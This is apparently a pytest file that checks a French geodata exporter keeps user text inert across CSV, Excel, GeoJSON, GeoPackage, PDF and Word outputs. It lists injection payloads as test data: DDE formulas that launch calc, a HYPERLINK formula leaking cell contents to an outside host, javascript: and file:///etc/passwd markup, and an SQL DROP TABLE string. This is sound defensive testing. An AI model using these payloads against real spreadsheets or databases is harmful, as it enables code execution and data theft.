"""Texts that a spreadsheet, a map or a reader of PDF would run: in every file, they stay texts."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import zipfile
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pytest
from pypdf import PdfReader

from geodata.exports.coverage_csv import coverage_csv, gaps_csv
from geodata.exports.coverage_geojson import as_bytes, coverage_geojson
from geodata.exports.coverage_geopackage import write_geopackage
from geodata.exports.coverage_xlsx import coverage_xlsx
from geodata.exports.plan_documents import plan_document
from geodata.exports.plan_tables import TABLES
from geodata.exports.report import Drawing, coverage_document, coverage_pdf
from geodata.sites.checks.checking import check_sites
from geodata.sites.files.writing import write_csv, write_json
from tests.checked import rows_of
from tests.coverage_answers import GEOMETRIES, coverage_answer, gaps_answer
from tests.coverage_country import write_country
from tests.plan_country import ground_in, plan_on

FORMULAS = [
    '=HYPERLINK("https://elsewhere.example?"&A1,"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    '";=1+1;"',
    '"=1+1',
]
MARKUP = [
    '<a href="https://elsewhere.example">x</a>',
    '<link href="javascript:app.alert(1)">x</link>',
    '<img src="file:///etc/passwd"/>',
    '<para><font size="200">x</font></para>',
    "<onDraw name='os'/>",
    "&lt;a href='x'&gt;",
    "<b>unclosed",
    "]]>",
    "<!--",
    "\x1b[31mred",
]
RUNS_IN_A_PDF = {"/JavaScript", "/JS", "/Launch", "/EmbeddedFiles", "/OpenAction", "/AA", "/AF"}
FREE = {"nom", "epci_name", "reason", "author", "account", "description"}
_RUNS = re.compile(r"^[\s\x00\u200b\ufeff]*[=+\-@＝＋－＠]")
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")
_CODE = re.compile(r'="[0-9A-Za-z][0-9A-Za-z_.:-]*"')


def poisoned(value: Any, text: str, key: str = "") -> Any:
    """A record with a text wherever somebody may write one: names, reasons, authors."""
    if isinstance(value, dict):
        return {
            name: text
            if isinstance(each, str) and (name in FREE or (name == "name" and key not in KEPT))
            else poisoned(each, text, name)
            for name, each in value.items()
        }
    if isinstance(value, list):
        return [poisoned(each, text, key) for each in value]
    return value


KEPT = {"objective", "weight", "sources"}
"""Whose `name` is the project's own word."""


@pytest.fixture(scope="module")
def plan(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    folder = tmp_path_factory.mktemp("country")
    write_country(folder)
    word = {
        "departement": "01",
        "commune": "01001",
        "opinion": "favourable",
        "instead": None,
        "reason": "utile",
        "author": "la préfecture",
        "account": "ann",
        "said_at": "2026-11-24T10:00:00Z",
    }
    return {**plan_on(ground_in(folder), name="Vague", posts=2), "opinions": [word]}


def tables(make: Callable[[str, str], Iterator[bytes]], text: str) -> Iterator[list[str]]:
    for locale, separator in (("fr", ";"), ("en", ",")):
        for content in make(text, locale):
            yield from csv.reader(
                io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator
            )


def is_formula(cell: str) -> bool:
    return bool(_RUNS.match(cell)) and not (_NUMBER.fullmatch(cell) or _CODE.fullmatch(cell))


@pytest.mark.parametrize("text", FORMULAS, ids=repr)
def test_no_cell_of_a_csv_begins_a_formula(plan: dict[str, Any], text: str) -> None:
    def made(text: str, locale: str) -> Iterator[bytes]:
        yield coverage_csv(poisoned(coverage_answer(), text), locale)
        yield gaps_csv(poisoned(gaps_answer(), text), locale)
        for table in TABLES:
            yield plan_document(poisoned(plan, text), "csv", table=table, locale=locale)

    rows = list(tables(made, text))
    cells = [cell for row in rows for cell in row]
    # It is there, and as a text.
    assert any(text.strip() in cell for cell in cells)
    assert [cell for cell in cells if is_formula(cell)] == []
    assert {len(row) for row in rows if row} <= {len(row) for row in rows if row and row[0]}


@pytest.mark.parametrize("text", [*FORMULAS, *MARKUP], ids=repr)
def test_every_cell_of_a_workbook_is_a_text_or_a_number(plan: dict[str, Any], text: str) -> None:
    contents = [coverage_xlsx(poisoned(coverage_answer(), text))]
    contents.append(plan_document(poisoned(plan, text), "xlsx"))
    for content in contents:
        book = openpyxl.load_workbook(io.BytesIO(content))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
        assert [cell for cell in cells if cell.hyperlink is not None] == []
        assert any(isinstance(cell.value, str) and "1" in cell.value for cell in cells)
        assert not book.defined_names


@pytest.mark.parametrize("text", [*FORMULAS, *MARKUP], ids=repr)
def test_geojson_keeps_a_text_as_it_is(plan: dict[str, Any], text: str) -> None:
    for content in (
        as_bytes(coverage_geojson(poisoned(coverage_answer(), text), {})),
        plan_document(poisoned(plan, text), "geojson"),
    ):
        assert text in _texts(json.loads(content))


def _texts(value: Any) -> set[str]:
    if isinstance(value, dict):
        return {text for each in value.values() for text in _texts(each)}
    if isinstance(value, list):
        return {text for each in value for text in _texts(each)}
    return {value} if isinstance(value, str) else set()


@pytest.mark.parametrize("text", ["=1+1", "'; DROP TABLE communes; --", '"x', MARKUP[0]], ids=repr)
def test_a_geopackage_keeps_a_text_as_it_is(tmp_path: Path, text: str) -> None:
    file = tmp_path / "aveyron.gpkg"
    write_geopackage(str(file), poisoned(coverage_answer(), text), {})
    with sqlite3.connect(file) as base:
        names = [row[0] for row in base.execute("SELECT table_name FROM gpkg_contents")]
        assert "communes" in names
        columns = [row[1] for row in base.execute("PRAGMA table_info(communes)")]
        values = [value for row in base.execute("SELECT * FROM communes") for value in row]
    base.close()
    assert "name" in columns
    assert text in values


@pytest.mark.parametrize("text", [*FORMULAS, *MARKUP], ids=repr)
def test_a_pdf_has_no_link_no_script_and_no_file_of_a_text(plan: dict[str, Any], text: str) -> None:
    for content in (
        plan_document(poisoned(plan, text), "pdf"),
        coverage_pdf(
            poisoned(coverage_answer(), text),
            poisoned(gaps_answer(), text),
            Drawing(GEOMETRIES, np.array([[5.05, 46.05]]), []),
        ),
    ):
        reader = PdfReader(io.BytesIO(content))
        root = reader.trailer["/Root"]
        assert not RUNS_IN_A_PDF & {*root, *(root.get("/Names") or {})}
        for page in reader.pages:
            assert not RUNS_IN_A_PDF & set(page)
            for each in page.get("/Annots") or ():
                action = each.get_object().get("/A") or {}
                assert "/URI" not in action, action
        assert reader.pages[0].extract_text()


@pytest.mark.parametrize("text", [*FORMULAS, *MARKUP], ids=repr)
def test_a_word_file_has_no_link_no_field_and_no_file_of_a_text(
    plan: dict[str, Any], text: str
) -> None:
    drawing = Drawing(GEOMETRIES, np.array([[5.05, 46.05]]), [])
    poison = poisoned(coverage_answer(), text), poisoned(gaps_answer(), text)
    for content in (
        plan_document(poisoned(plan, text), "docx"),
        coverage_document("docx", *poison, drawing),
    ):
        with zipfile.ZipFile(io.BytesIO(content)) as file:
            links = b"".join(file.read(name) for name in file.namelist() if name.endswith(".rels"))
            body = file.read("word/document.xml")
        assert b"External" not in links
        assert not any(tag in body for tag in (b"<w:instrText", b"<w:fldSimple", b"<w:object"))


def test_a_data_file_keeps_what_was_given_and_the_check_speaks_of_it(places: Any) -> None:
    """Programs read it back: a sign put before a value would be published as a part of it."""
    rows = [{"id": str(n), "nom": text} for n, text in enumerate(FORMULAS) if text.isprintable()]
    content = json.dumps(rows).encode()
    checked = list(check_sites([content], "lieux.json", places, date(2026, 11, 28)))
    sites = [row.site for row in checked if row.site is not None]
    for write in (write_csv, write_json):
        stream = io.StringIO(newline="")
        write(sites, stream)
        again = [row.values for row in rows_of([stream.getvalue().encode()])]
        assert [row["nom"] for row in again if row] == [site.nom for site in sites]
    codes = {row.number: {each.code for each in row.findings} for row in checked}
    for number, row in enumerate(rows, start=1):
        says = "formula_like" in codes[number]
        assert says == bool(_RUNS.match(row["nom"])), row


def test_a_telephone_and_a_number_are_no_formula(places: Any) -> None:
    row = {"id": "1", "nom": "Mairie", "telephone": "+33565778800", "longitude": "-1.5"}
    row |= {"latitude": "46.1", "presentation_resume": "- accueil", "adresse": "=1+1"}
    [checked] = [
        each
        for each in check_sites([json.dumps([row]).encode()], "x", places, date(2026, 1, 1))
        if each.number
    ]
    said = {each.field for each in checked.findings if each.code == "formula_like"}
    assert said == {"presentation_resume", "adresse"}
